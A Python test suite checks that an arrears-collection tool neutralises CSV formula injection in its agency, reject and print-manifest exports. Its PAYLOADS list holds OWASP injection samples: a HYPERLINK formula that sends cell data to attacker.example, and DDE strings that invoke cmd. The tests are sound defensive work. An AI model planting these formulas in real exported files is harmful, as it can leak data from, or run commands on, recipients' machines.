"""CSV formula injection in every CSV file arrears writes for people (OWASP "CSV Injection";
issue 12 "Security"): a cell that begins with = + - @ tab or carriage return is written with an
apostrophe in front, so a spreadsheet shows it as text. One helper does it for every export
(``arrears.formats.csv_cells``); a new CSV writer in the source fails here until it is listed.
"""

from __future__ import annotations

import csv
import hashlib
import re
from datetime import date
from pathlib import Path

import polars as pl
import pytest

from arrears.adapters.channels.print_batch import MANIFEST_COLUMNS, PrintBatchFolders
from arrears.adapters.files.agency_files import (
    PLACEMENT_COLUMNS,
    RECALL_COLUMNS,
    write_csv,
    write_rejects,
)
from arrears.adapters.files.problem_log import ProblemLog
from arrears.errors import Problem
from arrears.formats.csv_cells import FORMULA_STARTS, neutralise
from arrears.services.ports import ManifestRow

SOURCE = Path(__file__).resolve().parents[2] / "src" / "arrears"
#: Every module that writes CSV, and why it is safe: tested below, or not a file for people.
WRITERS = {
    "adapters/files/agency_files.py": "placement, recall, reconciliation and reject files: tested",
    "adapters/files/problem_log.py": "import reject files: tested",
    "adapters/channels/print_batch.py": "the print house's manifest: tested",
    "adapters/db/bulk.py": "rows streamed into PostgreSQL COPY, never a file",
    "simulation/writer.py": "synthetic import files for `arrears import`, read by the importer",
}
WRITES_CSV = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.write_csv\(|\.sink_csv\(")
#: Payloads from the OWASP page, one per dangerous first character.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def cells_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_every_csv_writer_in_the_source_is_accounted_for() -> None:
    """A module that writes CSV is either one of the tested exports or says why it needs no
    neutralising: a new export cannot skip the rule unnoticed."""
    found = {
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if WRITES_CSV.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(WRITERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_shared_rule_quotes_each_dangerous_start(payload: str) -> None:
    """Each dangerous first character gets the apostrophe; the rest is kept as typed."""
    assert neutralise(payload) == "'" + payload
    assert neutralise("García") == "García"
    assert neutralise(None) == ""


def test_agency_placement_and_recall_files(tmp_path: Path) -> None:
    """Every column of the placement and recall files, each holding a payload: no cell of the
    written file would run as a formula, and each payload is still there after the quote."""
    for name, columns in (("placement.csv", PLACEMENT_COLUMNS), ("recall.csv", RECALL_COLUMNS)):
        rows = [
            {column: PAYLOADS[(i + n) % len(PAYLOADS)] for i, column in enumerate(columns)}
            for n in range(len(PAYLOADS))
        ]
        written = write_csv(tmp_path / name, columns, rows)
        assert written == len(rows)
        header, *body = cells_of(tmp_path / name)
        assert header == list(columns)
        assert all(not dangerous(cell) for row in body for cell in row)
        assert {cell[1:] for row in body for cell in row} == set(PAYLOADS)


def test_reject_files_of_the_agency_commands(tmp_path: Path) -> None:
    """A remittance with hostile values is refused into a reject file; its cells are quoted."""
    problems = [
        Problem(payload, n + 2, payload, payload, payload) for n, payload in enumerate(PAYLOADS)
    ]
    write_rejects(tmp_path / "rejects.csv", problems)
    header, *body = cells_of(tmp_path / "rejects.csv")
    assert header == ["file", "row", "column", "value", "message"]
    assert all(not dangerous(cell) for row in body for cell in row)


def test_import_reject_files(tmp_path: Path) -> None:
    """The importer's problem log (the ``--rejects`` file): file, column, value and message are
    quoted when they start a formula."""
    log = ProblemLog(tmp_path / "problems.csv")
    log.add_problems([Problem(p, n + 2, p, p, p) for n, p in enumerate(PAYLOADS)])
    log.close()
    header, *body = cells_of(tmp_path / "problems.csv")
    assert header == ["file", "row", "column", "value", "message"]
    assert len(body) == len(PAYLOADS)
    assert all(not dangerous(cell) for row in body for cell in row)
    frame = pl.read_csv(tmp_path / "problems.csv", infer_schema=False)
    assert frame["value"].to_list() == ["'" + p for p in PAYLOADS]


def test_the_print_batch_manifest(tmp_path: Path) -> None:
    """The manifest lists each letter's recipient and address: a borrower named with a formula
    is quoted there, and a carriage return in a name stays inside its cell (this export had
    neither before this test)."""
    day = date(2026, 11, 27)
    letters = tmp_path / day.isoformat() / "letters"
    letters.mkdir(parents=True)
    rows = []
    for n, payload in enumerate(PAYLOADS, start=1):
        pdf = letters / f"{n:09d}-demand_letter.pdf"
        pdf.write_bytes(b"%PDF-1.7 letter " + str(n).encode())
        rows.append(
            ManifestRow(
                letter_id=n, account=payload, recipient_name=payload,
                address_lines=(payload, "Boston, MA 02139"), template="demand_letter",
                template_version=1, language="en", pages=1,
                sha256=hashlib.sha256(pdf.read_bytes()).hexdigest(),
                file=str(pdf.relative_to(tmp_path)),
            )
        )  # fmt: skip
    files = PrintBatchFolders(tmp_path).write_manifest(day, rows, return_name="Example")
    header, *body = cells_of(files.manifest_csv)
    assert header == list(MANIFEST_COLUMNS)
    assert len(body) == len(rows), "a carriage return in a name must not start a new row"
    assert all(not dangerous(cell) for row in body for cell in row)
    names = [row[header.index("recipient_name")] for row in body]
    assert names == ["'" + p for p in PAYLOADS]
